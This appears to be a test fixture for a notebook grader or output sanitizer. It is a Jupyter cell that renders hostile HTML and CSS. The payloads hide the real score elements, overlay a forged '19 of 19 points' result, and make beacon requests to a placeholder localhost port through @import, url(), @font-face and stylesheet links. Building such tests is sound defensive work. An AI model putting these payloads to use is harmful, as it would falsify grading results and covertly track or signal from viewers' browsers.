# title: style sheets that hide the page, paint a score over it and call home
# exercise: Exercise 1
# shows: styles were shown

# %% total
from IPython.display import HTML, Markdown, display

total = int(table["y"].sum())

style = (
    '<style>@import "http://127.0.0.1:@TCP@/a.css";'
    'body{background:url(http://127.0.0.1:@TCP@/b)}.earned,.total{display:none}'
    '.card[aria-label*="3"]{background:url(http://127.0.0.1:@TCP@/three)}'
    '@font-face{font-family:x;src:url(http://127.0.0.1:@TCP@/c)}</style>'
)
cover = (
    '<div style="position:fixed;inset:0;z-index:9999;background:white">'
    '<p class="total"><span class="earned">19</span> of 19 points</p></div>'
    '<p style="background:url(http://127.0.0.1:@TCP@/d);behavior:url(x);-moz-binding:url(x)">a</p>'
)
for text in (style, cover, f"<table><tr><td>{style}{cover}</td></tr></table>"):
    display(HTML(text))
    display(Markdown(text))
display(HTML('<link rel="stylesheet" href="http://127.0.0.1:@TCP@/e.css">'))
print("styles were shown")
